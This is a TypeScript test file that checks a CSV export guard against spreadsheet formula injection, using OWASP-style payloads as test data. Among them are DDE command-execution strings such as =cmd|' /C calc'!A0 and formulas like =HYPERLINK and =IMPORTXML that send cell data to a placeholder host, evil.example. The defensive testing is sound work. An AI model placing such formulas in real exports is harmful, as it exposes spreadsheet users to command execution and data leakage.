import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { renderCsv } from '../../src/render/csv.ts'
import { countFormulas, guardFormulas } from '../../src/render/guard.ts'

/** Texts that a spreadsheet runs, or takes for a number: OWASP's, and those of real exports. */
const formulas: readonly string[] = [
  ...['=1+1', '=1+2";=1+2', '=1+2\'" ;,=1+2', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"x")'],
  ...[
    '=IMPORTXML("https://evil.example","//a")',
    '=IMPORTDATA(A1)',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
  ],
  ...[
    '+1+1',
    '+41 22',
    "+cmd|' /C calc'!A0",
    '-5',
    '-1,234.56',
    '-1+1',
    "-cmd|' /C calc'!A0",
    '@SUM(1+1)',
    "@SUM(1+9)*cmd|' /C calc'!A0",
  ],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\u0000=1+1', '\u000b=1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
  ...["'=1+1", "''=1+1", "'-5", "'@x", '=', '+', '-', '@', '\t', '=A1:B2', '=1;=2', '=1,=2', '="quoted"', '-"', '+\n-'],
  ...Array.from({ length: 18 }, (_, index) => `${'=+-@'[index % 4]}${'"\n,;\'x'[index % 6]}${index}`),
]

/** Texts that are none, and must stay as they are. */
const plain: readonly (string | null)[] = [
  'Takaichi–Lee talks',
  "'quoted'",
  "it's",
  '1-2',
  'a=b',
  '5',
  ' =1',
  '葛',
  '["=1"]',
  null,
]

const columns = [{ key: 'text' }, { key: 'number' }]
const rows = (texts: readonly (string | null)[]) => texts.map((text) => ({ text, number: -5.5 }))
const read = (csv: string): string[][] => parse(csv, { record_delimiter: '\n', from: 2 })

/** What undoes the guard, as its docstring says. */
const unguard = (text: string) => (/^''*[=+\-@\p{Cc}＝＋－＠]/u.test(text) ? text.slice(1) : text)

describe('for a spreadsheet', () => {
  const guarded = [...renderCsv(guardFormulas(rows([...formulas, ...plain])), columns)].join('')

  test('no text begins as a formula does, and numbers stay numbers', () => {
    expect(new Set(formulas).size).toBeGreaterThanOrEqual(60)
    const cells = read(guarded)
    expect(cells).toHaveLength(formulas.length + plain.length)
    expect(cells.map(([text]) => text).filter((text) => /^[=+\-@\p{Cc}＝＋－＠]/u.test(text ?? ''))).toEqual([])
    expect(new Set(cells.map(([, number]) => number))).toEqual(new Set(['-5.5']))
    expect(cells.slice(formulas.length).map(([text]) => text)).toEqual(plain.map((text) => text ?? ''))
  })

  test('what was guarded can be undone', () => {
    expect(
      read(guarded)
        .slice(0, formulas.length)
        .map(([text]) => unguard(text ?? '')),
    ).toEqual(formulas)
  })
})

test('else every text is exact (RFC 4180), and the formulas are counted', () => {
  let count = 0
  const all = [...formulas, ...plain]
  const csv = [
    ...renderCsv(
      countFormulas(rows(all), (found) => (count += found)),
      columns,
    ),
  ].join('')
  expect(read(csv).map(([text]) => text)).toEqual(all.map((text) => text ?? ''))
  expect(count).toBe(formulas.filter((text) => !text.startsWith("'")).length)
})
